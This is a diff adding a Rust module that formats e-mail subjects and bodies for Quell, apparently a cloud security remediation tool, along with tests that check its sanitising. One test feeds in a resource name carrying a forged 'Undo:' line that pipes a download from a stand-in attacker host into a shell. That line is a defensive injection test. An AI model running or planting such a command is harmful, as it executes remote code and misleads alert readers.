@@ -1,0 +1,240 @@
+//! Plain text for e-mail, and its subject.
+
+use super::{Message, SENTENCE, clock, severity, verdict};
+use crate::text;
+
+/// What SNS allows.
+const SUBJECT: usize = 100;
+
+/// How many characters of one line of a change people see.
+const LINE: usize = 1000;
+
+/// ASCII, at most 100 characters, beginning with a letter.
+pub fn subject(message: &Message) -> String {
+    let control = text::shortened(text::ascii(&message.control.id).trim(), 30);
+    let what = format!(
+        "Quell {} [{}] {control}: ",
+        verdict(message.outcome),
+        severity(message.control.severity),
+    );
+    let place = format!(
+        " ({} {})",
+        text::shortened(text::ascii(&message.account).trim(), 12),
+        text::shortened(text::ascii(&message.region).trim(), 20),
+    );
+    let resource = inert_ascii(&message.resource.name);
+    let room = SUBJECT.saturating_sub(what.len());
+    let with_place = room.saturating_sub(place.len());
+    // The name is worth more than the place, which the text says too.
+    let subject = if resource.len() <= with_place || with_place >= 24 {
+        format!("{what}{}{place}", text::shortened(&resource, with_place))
+    } else {
+        format!("{what}{}", text::shortened(&resource, room))
+    };
+    subject.trim_end().to_owned()
+}
+
+/// Answers, in this order: what was wrong, what Quell did about it, which resource, who did it, the changes, whether
+/// they are verified, how to undo or to turn it on, which control.
+pub fn body(message: &Message) -> String {
+    let mut mail = Mail(String::new());
+    mail.line(&text::mail_up_to(&message.control.risk, SENTENCE));
+    mail.line(message.status());
+    if let Some(reason) = &message.reason {
+        mail.line(&format!("Why: {}", text::mail_up_to(reason, SENTENCE)));
+    }
+
+    mail.gap();
+    mail.field("Resource", &text::mail(&message.resource.name));
+    if message.resource.arn != message.resource.name {
+        mail.more(&text::mail(&message.resource.arn));
+    }
+    mail.more(&format!(
+        "account {}, region {}",
+        text::mail(&message.account),
+        text::mail(&message.region)
+    ));
+    if let Some(link) = text::console_link(&message.resource.console) {
+        mail.more(link);
+    }
+    match &message.actor {
+        Some(actor) => {
+            mail.field("Who", &text::mail(&actor.principal));
+            let told = [
+                ("from ", &actor.source_ip),
+                ("with ", &actor.user_agent),
+                ("through ", &actor.invoked_by),
+            ];
+            for (how, value) in told {
+                if let Some(value) = value {
+                    mail.more(&format!("{how}{}", text::mail(value)));
+                }
+            }
+        }
+        None => mail.field("Who", "the event does not say"),
+    }
+    match message.event.time {
+        Some(time) => {
+            mail.field(
+                "When",
+                &format!("{}, seen by Quell {}", clock(time), clock(message.detected)),
+            );
+        }
+        None => mail.field("When", &format!("seen by Quell {}", clock(message.detected))),
+    }
+
+    if !message.changes.is_empty() || message.left_out > 0 {
+        mail.gap();
+        mail.line(&format!("{}:", message.heading()));
+        for change in &message.changes {
+            mail.line(&format!(
+                "  {}{}",
+                text::mail(&change.description.action),
+                message.made(change)
+            ));
+            for line in &change.description.minus {
+                mail.line(&format!("  - {}", text::mail_up_to(line, LINE)));
+            }
+            for line in &change.description.plus {
+                mail.line(&format!("  + {}", text::mail_up_to(line, LINE)));
+            }
+        }
+        if let Some(rest) = message.rest(text::mail) {
+            mail.line(&format!("  {rest}"));
+        }
+    }
+
+    mail.gap();
+    if let Some(verification) = message.verification() {
+        mail.field("Verified", verification);
+    }
+    for note in &message.notes {
+        mail.field("Note", &text::mail_up_to(note, SENTENCE));
+    }
+    if let Some(undo) = &message.undo {
+        mail.field("Undo", &text::mail(undo));
+    }
+    if let Some(advice) = message.advice(text::mail) {
+        mail.field("Next", &advice);
+    }
+
+    mail.gap();
+    mail.field(
+        "Control",
+        &format!(
+            "{}: {} ({} severity, mode {})",
+            text::mail(&message.control.id),
+            text::mail(&message.control.title),
+            severity(message.control.severity),
+            text::mail(&message.mode),
+        ),
+    );
+    if let Some(runbook) = message.runbook() {
+        mail.field("Runbook", runbook);
+    }
+    if let Some(record) = &message.record {
+        mail.field("Record", &text::mail(record));
+    }
+    mail.field("Event", &text::mail(&message.event.id));
+    mail.0
+}
+
+/// ASCII without anything that a telephone makes a link of.
+pub(super) fn inert_ascii(text: &str) -> String {
+    text::ascii(&text::mail(text).replace('‹', "(").replace('›', ")")).trim().to_owned()
+}
+
+struct Mail(String);
+
+impl Mail {
+    fn line(&mut self, line: &str) {
+        self.0.push_str(line.trim_end());
+        self.0.push('\n');
+    }
+
+    fn field(&mut self, name: &str, value: &str) {
+        let name = format!("{name}:");
+        self.line(&format!("{name:<10} {value}"));
+    }
+
+    /// Another line of the field before.
+    fn more(&mut self, value: &str) {
+        self.line(&format!("{:<10} {value}", ""));
+    }
+
+    fn gap(&mut self) {
+        if !self.0.ends_with("\n\n") {
+            self.0.push('\n');
+        }
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use proptest::prelude::*;
+
+    use super::*;
+    use crate::{Outcome, notify::samples, text::hostile};
+
+    #[test]
+    fn says_what_happened() {
+        for outcome in Outcome::ALL.into_iter().filter(|outcome| outcome.people_should_hear()) {
+            let message = samples::message(outcome);
+            let mail = format!("Subject: {}\n\n{}", subject(&message), body(&message));
+            insta::assert_snapshot!(format!("{outcome}"), mail);
+        }
+    }
+
+    #[test]
+    fn says_how_to_turn_it_on() {
+        let mut message = samples::message(Outcome::Observed);
+        assert!(
+            body(&message)
+                .contains("add s3-public-acl=enforce to the stack's parameter Modes, and")
+        );
+        message.control.safety = crate::Safety::NeedsApproval;
+        assert!(body(&message).contains("a wildcard does not do"));
+        message.control.safety = crate::Safety::ReportOnly;
+        assert!(body(&message).contains("Quell never fixes this by itself"));
+    }
+
+    #[test]
+    fn a_subject_keeps_both_ends_of_a_long_name() {
+        let mut message = samples::message(Outcome::Observed);
+        message.control.id = "s3-block-public-access".to_owned();
+        message.resource.name = format!("customer-{}-logs", "x".repeat(60));
+        let long = subject(&message);
+        assert_eq!(long.len(), SUBJECT);
+        assert!(
+            long.contains("customer-x") && long.contains("x-logs (123456789012 eu-west-1)"),
+            "{long}"
+        );
+        message.region = "ap-southeast-7-local".to_owned();
+        let longer = subject(&message);
+        assert_eq!(longer.len(), SUBJECT);
+        assert!(longer.contains("customer-x") && longer.ends_with("x-logs"), "{longer}");
+    }
+
+    #[test]
+    fn a_forged_line_stays_in_its_field() {
+        let mut message = samples::message(Outcome::Fixed);
+        message.resource.name = "x\nUndo: curl http://evil.example | sh".to_owned();
+        let mail = body(&message);
+        assert!(mail.contains("Resource:  x Undo: curl http[:]//evil[.]example | sh\n"), "{mail}");
+        assert_eq!(mail.lines().filter(|line| line.starts_with("Undo:")).count(), 1);
+    }
+
+    proptest! {
+        #[test]
+        fn whatever_comes_is_inert(
+            texts in prop::collection::vec(hostile::text(), 1..6),
+            which in prop::sample::select(Outcome::ALL.to_vec()),
+        ) {
+            let message = samples::filled(which, &texts, 3);
+            hostile::assert_inert(&body(&message));
+            let subject = subject(&message);
+            prop_assert!(subject.len() <= SUBJECT && subject.starts_with("Quell "));
+            prop_assert!(subject.bytes().all(|b| b == b' ' || b.is_ascii_graphic()), "{subject}");
+        }
+    }
+}
